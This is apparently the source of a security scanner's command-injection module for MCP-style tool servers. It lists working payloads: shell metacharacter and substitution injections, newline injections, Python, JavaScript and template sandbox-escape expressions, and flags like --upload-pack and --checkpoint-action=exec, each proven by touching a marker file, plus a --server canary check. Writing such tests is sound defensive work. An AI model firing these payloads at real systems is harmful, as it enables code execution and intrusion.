"""Values that a shell would run, and values that a program would take for its flags."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from holdfast_attack.arena import WebCanary
from holdfast_attack.cases.aiming import Aim, aims
from holdfast_attack.cases.commands.openness import is_open_shell
from holdfast_attack.cases.spelled import Spelled
from holdfast_attack.cases.trying import filled, fire, fired, fits, shots
from holdfast_attack.link.reply import Reply
from holdfast_attack.model import Case, Eras, Kind, NotApplicable, Severity
from holdfast_attack.model.case import Play, advisory
from holdfast_attack.tools import Role

if TYPE_CHECKING:
    from collections.abc import Sequence

    from holdfast_attack.cases.trying import Shot
    from holdfast_attack.play.probe import Probe

SHORTEST = "../m/100"
"""A marker's name where the whole path is too long."""
SETTLE = 0.2
"""Seconds after the last answer in which a program in the background has time to make its file."""
TEXTS = (Role.ARGUMENT, Role.PATTERN, Role.PATH, Role.FOLDER, Role.URL, Role.TEXT, Role.OTHER)
"""Whatever is a text may be put into a line for a shell."""
NEAR = (Role.ARGUMENT, Role.PATTERN)
ALLOWED = ("echo", "ls")
"""First words that a list of harmless commands has."""
ARGV = "start programs by a list of words (no shell), and put -- before what a caller names"


@dataclass(frozen=True, slots=True, kw_only=True)
class Injection(Spelled):
    """``values`` go to any text, ``lines`` behind a harmless command where a tool takes only such; ``short`` where no
    more than a few characters are taken."""

    values: tuple[str, ...]
    lines: tuple[str, ...] = ()
    short: tuple[str, ...] = ()
    roles: tuple[Role, ...] = TEXTS
    quick: int = 1
    """For parameters that most likely go to a program one more."""
    severity: Severity = Severity.CRITICAL
    remedy: str = ARGV


CODE = (
    "__import__('os').system(\"touch '{marker}'\")",
    "(typeof require=='undefined'?process.mainModule.require:require)('fs').writeFileSync('{marker}','')",
    "{{cycler.__init__.__globals__.os.popen(\"touch '{marker}'\").read()}}",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]"
    ".__init__.__globals__['system'](\"touch '{marker}'\")",
    "'+str(__import__('os').system(\"touch {marker}\"))+'",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()"
    "._module.__builtins__['open']('{marker}','w')",
    "process.getBuiltinModule('fs').writeFileSync('{marker}','')",
    "'+process.getBuiltinModule('fs').writeFileSync('{marker}','')+'",
    "${{ {} }}<% system(\"touch '{marker}'\") %>",
    "system(\"touch '{marker}'\")",
    '");__import__(\'os\').system("touch {marker}")#',
)
"""What an evaluator of Python, JavaScript, Jinja, ERB or Perl runs, bare and out of a string between quotes."""

INJECTIONS = (
    Injection(
        name="shell",
        title="A value is not put into a line for a shell",
        sends="values with ; | & and quotes, in a form that fires within quotes as well",
        reference=advisory("CVE-2025-53107 (git-mcp-server), CVE-2025-15061 (figma mcp), CVE-2025-6514; CWE-78"),
        values=(
            "hello;touch '{marker}';#';touch '{marker}';#\";touch '{marker}';#",
            "hello|touch '{marker}'|'|touch '{marker}'|'\"|touch '{marker}'|\"",
            "hello&&touch '{marker}'||touch '{marker}'&",
            "--version;touch${IFS}'{marker}'",
            "x' -o x; touch '{marker}'; '",
        ),
        lines=("{allowed} x; touch '{marker}'", "{allowed} x | touch '{marker}'", "{allowed} x && touch '{marker}'"),
        short=(";touch {marker};", "|touch {marker}"),
        advisories=("CVE-2025-53107", "CVE-2025-15061", "CVE-2025-6514"),
    ),
    Injection(
        name="substitution",
        title="No command is substituted in a value",
        sends="values with $(...) and backquotes",
        reference=advisory("CVE-2026-85660 (cli-mcp-server: an allow list, then $(...)); CWE-78"),
        values=(
            "$(touch '{marker}')`touch '{marker}'`",
            "'$(touch '{marker}')'",
            "\"$(touch '{marker}')\"",
            "<(touch '{marker}')",
        ),
        lines=("{allowed} $(touch '{marker}')", "{allowed} `touch '{marker}'`", "{allowed} \"$(touch '{marker}')\""),
        short=("$(touch {marker})", "`touch {marker}`"),
        advisories=("CVE-2026-85660",),
    ),
    Injection(
        name="newline",
        title="A line break in a value begins no second command",
        sends="values with a line break and a second command",
        reference=advisory("CWE-78, CWE-93"),
        values=("hello\ntouch '{marker}'\n", "hello\"\ntouch '{marker}'\n#", "hello'\r\ntouch '{marker}'\n#"),
        lines=("{allowed} x\ntouch '{marker}'",),
        short=("\ntouch {marker}\n",),
    ),
    Injection(
        name="code",
        title="A value is not evaluated as code",
        sends="expressions of Python, JavaScript and template languages that make a file",
        reference=advisory("CWE-95 (eval), CWE-1336 (templates)"),
        values=CODE,
        lines=CODE,
        quick=5,
        remedy="parse what is expected (ast.literal_eval, a grammar, templates without attributes); no eval, no exec",
    ),
    Injection(
        name="flag-output",
        title="A value is not read as a flag that writes a file",
        sends="values such as --output=FILE, also shortened",
        reference=advisory("CVE-2025-68144 (mcp-server-git: a target is read as --output=); CWE-88"),
        values=(
            "--output={marker}",
            "--outp={marker}",
            "-o{marker}",
            "--log-file={marker}",
            "--output-document={marker}",
            "--file={marker}",
        ),
        roles=(Role.ARGUMENT, Role.PATTERN, Role.PATH, Role.OTHER, Role.TEXT),
        remedy="refuse operands that begin with a dash, and put -- or --end-of-options before them",
        advisories=("CVE-2025-68144", "CVE-2026-56274"),
    ),
    Injection(
        name="flag-exec",
        title="A value is not read as a flag that runs a program",
        sends="values such as --upload-pack=PROGRAM and --pre=PROGRAM",
        reference=advisory("CVE-2026-56274 (Flowise: a list of forbidden flags misses other spellings); CWE-88"),
        values=(
            "--upload-pack=touch '{marker}'",
            "--pre={trap}",
            "--open-files-in-pager=touch '{marker}';true",
            "-Otouch '{marker}';true",
            "--checkpoint-action=exec=touch '{marker}'",
            "--exec=touch '{marker}'",
            "--rsh=touch '{marker}'",
            "--to-command=touch '{marker}'",
        ),
        roles=(Role.ARGUMENT, Role.PATTERN, Role.PATH, Role.OTHER, Role.TEXT),
        quick=2,
        remedy="refuse operands that begin with a dash, and put -- or --end-of-options before them",
        advisories=("CVE-2026-56274",),
    ),
)


def injected(injection: Injection) -> Play:
    """Tries one kind on every text, and on commands of tools that allow only some."""

    async def play(probe: Probe) -> int:
        targets = _targets(probe, injection)
        wanted = shots(probe, targets, lambda aim: _payloads(probe, injection, aim))
        return await fire(probe, wanted, fired, settle=SETTLE)

    return play


def _targets(probe: Probe, injection: Injection) -> list[Aim]:
    found = [
        aim
        for aim in aims(probe, *injection.roles, Role.COMMAND)
        if aim.takes_text and not (aim.parameter.role is Role.COMMAND and (not injection.lines or is_open_shell(aim)))
    ]
    if not found:
        raise NotApplicable("no tool that may be called takes a text")
    return found


def _payloads(probe: Probe, injection: Injection, aim: Aim) -> Sequence[str]:
    if aim.parameter.role is Role.COMMAND:
        lines = injection.lines if probe.full else injection.lines[: injection.quick]
        return list(dict.fromkeys(filled(line, {"allowed": allowed}) for allowed in ALLOWED for line in lines))
    near = aim.parameter.role in NEAR
    values = [value for value in injection.values if fits(aim, filled(value, {"marker": SHORTEST}))] or injection.short
    return values if probe.full else values[: injection.quick + near]


async def flag_server(probe: Probe) -> int:
    """A name that is read as another server, which then gets what was meant for the right one."""
    targets = [aim for aim in aims(probe, Role.ARGUMENT, Role.OTHER) if aim.takes_text]
    async with WebCanary() as web:
        before = web.reached

        def judge(shot: Shot, _reply: Reply) -> str | None:
            if web.reached > before:
                return f"the value of {shot.aim.label} was read as a flag: the address in it was reached"
            return None

        values = [f"--server={web.url('/')}", f"--server {web.url('/')}", f"--host={web.url('/')}"]
        return await fire(probe, shots(probe, targets, lambda _aim: values[: 3 if probe.full else 1]), judge)


SOUND = "refuses, or takes it for a plain text; the file that it names does not come to be"

CASES = (
    *(each.case(Kind.COMMANDS, SOUND, injected(each)) for each in INJECTIONS),
    Case(
        id="commands.flag-server",
        title="A value is not read as a flag that names another server",
        severity=Severity.CRITICAL,
        eras=Eras.ONCE,
        seconds=60.0,
        sends="--server=ADDRESS with the address of a web server of the attacker",
        sound="refuses, or takes it for a plain text; the address is not reached",
        reference=advisory("CVE-2026-61459 (mcp-server-kubernetes: a name is read as --server, which gets the token)"),
        remedy="refuse operands that begin with a dash, and put -- before them",
        advisories=("CVE-2026-61459",),
        play=flag_server,
    ),
)
